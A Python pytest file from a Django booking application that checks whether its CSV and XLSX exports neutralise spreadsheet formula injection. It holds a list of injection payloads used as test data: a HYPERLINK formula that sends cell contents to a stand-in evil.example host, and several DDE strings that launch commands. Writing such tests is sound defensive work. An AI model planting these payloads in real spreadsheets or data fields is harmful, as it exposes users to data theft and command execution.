"""Attacks through spreadsheets: every CSV and XLSX export × every kind of formula a name can
carry (OWASP CSV injection: a leading = + - @, tab or carriage return).

The hostile values sit where people type them: participants' names, organisations' names and
places, trainers' names, certifying bodies, training titles and topics. Each export is read back:
no CSV cell starts a formula (the value is there, behind a quote) and no XLSX cell is a formula
(the value is there, as text). Exports: sessions, bookings, organisations, in-house requests, a
session's participants, trainers, certifications, assignments, the programme statistics (admin
and report_pa3) and Wagtail's own reports.
"""

import csv
import io
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from bookings.factories import OrganisationFactory, UserFactory
from bookings.models import Booking, InhouseRequest
from catalogue.factories import TopicFactory, make_session, make_training
from catalogue.spreadsheets import FORMULA_STARTS
from tests.bookings.statistics_data import attend, book, held_session
from tests.trainers.helpers import accepted_assignment
from trainers.factories import make_trainer
from trainers.models import Certification

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_world(site_tree):
    topic = TopicFactory(slug="hostile", name=HOSTILE[3], name_en=HOSTILE[3])
    training = make_training(site_tree.index, title=HOSTILE[0], topic=topic)
    organisation = OrganisationFactory(name=HOSTILE[1], city=HOSTILE[2])
    upcoming = make_session(training, first_date=timezone.localdate() + timedelta(days=30))
    held = held_session(training, date(2030, 1, 7))
    for session in (upcoming, held):
        (participant,) = book(session, organisation, "employee")
        participant.name = HOSTILE[4]
        participant.email = "x@example.org"
        participant.save()
    attend(participant, "present")
    InhouseRequest.objects.create(
        organisation=organisation,
        training=training,
        period_from=timezone.localdate(),
        period_to=timezone.localdate() + timedelta(days=60),
        expected_participants=12,
        delivery="on_site",
        place=HOSTILE[5],
    )
    trainer = make_trainer(topic=topic, name=HOSTILE[2])
    Certification.objects.filter(trainer=trainer).update(issued_by=HOSTILE[5])
    accepted_assignment(held, trainer)
    return {"upcoming": upcoming}


def admin_exports(world) -> list[str]:
    statistics = reverse("bookings_statistics") + "?date_from=2030-01-01&date_to=2030-12-31"
    return [
        reverse("catalogue_session:index") + "?",
        reverse("bookings_booking:index") + "?",
        reverse("bookings_organisation:index") + "?",
        reverse("bookings_inhouserequest:index") + "?",
        reverse("bookings_staff:participants", args=[world["upcoming"].pk]) + "?",
        reverse("trainers_trainer:index") + "?",
        reverse("trainers_certification:index") + "?",
        reverse("trainers_assignment:index") + "?",
        statistics + "&",
        reverse("wagtailadmin_reports:site_history") + "?",
    ]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_is_safe(text: str, where: str):
    cells = csv_cells(text)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], where
    assert any(cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) for cell in cells), (
        f"{where}: no hostile value exported"
    )


def assert_xlsx_is_safe(content: bytes, where: str):
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], where
    assert any(
        isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) for cell in cells
    ), f"{where}: no hostile value exported"


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_every_admin_export_writes_formulas_as_text(client, hostile_world):
    client.force_login(UserFactory(is_superuser=True))
    Booking.objects.update(created_at=timezone.now())

    for url in admin_exports(hostile_world):
        as_csv = client.get(url + "export=csv")
        as_xlsx = client.get(url + "export=xlsx")
        assert as_csv.status_code == 200 and as_xlsx.status_code == 200, url
        assert_csv_is_safe(body(as_csv).decode("utf-8-sig"), url)
        assert_xlsx_is_safe(body(as_xlsx), url)


def test_report_pa3_writes_formulas_as_text(hostile_world, tmp_path):
    period = ["--from", "2030-01-01", "--to", "2030-12-31"]
    output = io.StringIO()
    call_command("report_pa3", *period, "--format", "csv", stdout=output)
    call_command("report_pa3", *period, "--format", "xlsx", "--output", str(tmp_path / "r.xlsx"))

    assert_csv_is_safe(output.getvalue(), "report_pa3 csv")
    assert_xlsx_is_safe((tmp_path / "r.xlsx").read_bytes(), "report_pa3 xlsx")
